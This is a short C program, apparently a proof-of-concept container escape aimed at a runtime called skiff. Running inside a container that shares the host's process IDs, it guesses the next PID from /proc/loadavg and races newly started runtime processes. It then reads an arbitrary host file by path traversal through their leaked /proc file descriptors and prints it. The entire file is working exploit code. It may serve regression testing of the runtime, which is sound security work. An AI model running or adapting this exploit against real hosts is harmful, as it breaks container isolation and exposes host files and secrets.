/* look PATH: waits in a container with the host's PIDs for processes of skiff, and reads the host's file PATH by
 * way of their descriptors. We know the next process ID, so we ask for it again and again. */
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

enum { DESCRIPTORS = 24 };

/* The last process ID that was given out: the last word of /proc/loadavg. */
static int last_pid(int loadavg)
{
	char text[128] = "";

	if (pread(loadavg, text, sizeof text - 1, 0) <= 0)
		return 0;
	return atoi(strrchr(text, ' ') + 1);
}

static int look(int pid, const char *file)
{
	char path[512], text[128];

	for (int fd = 3; fd < DESCRIPTORS; fd++) {
		snprintf(path, sizeof path,
			 "/proc/%d/fd/%d/../../../../../../../../../../../../../../../../%s", pid,
			 fd, file);
		int secret = open(path, O_RDONLY);
		ssize_t got = secret < 0 ? -1 : read(secret, text, sizeof text);

		if (secret >= 0)
			close(secret);
		if (got > 0) {
			printf("descriptor %d of process %d leads to the host: %.*s", fd, pid,
			       (int)got, text);
			return 1;
		}
	}
	return 0;
}

int main(int argc, char **argv)
{
	int loadavg = open("/proc/loadavg", O_RDONLY);

	setvbuf(stdout, NULL, _IOLBF, 0);
	printf("ready\n");
	for (;;) {
		int last = last_pid(loadavg);

		for (int pid = last - 1; pid <= last + 2; pid++)
			if (look(pid, argc > 1 ? argv[1] : ""))
				return 0;
	}
}
